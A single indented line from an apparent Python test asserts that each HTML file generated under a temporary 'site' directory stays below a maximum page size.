    assert max(path.stat().st_size for path in (tmp_path / "site").rglob("*.html")) < site.MAX_PAGE
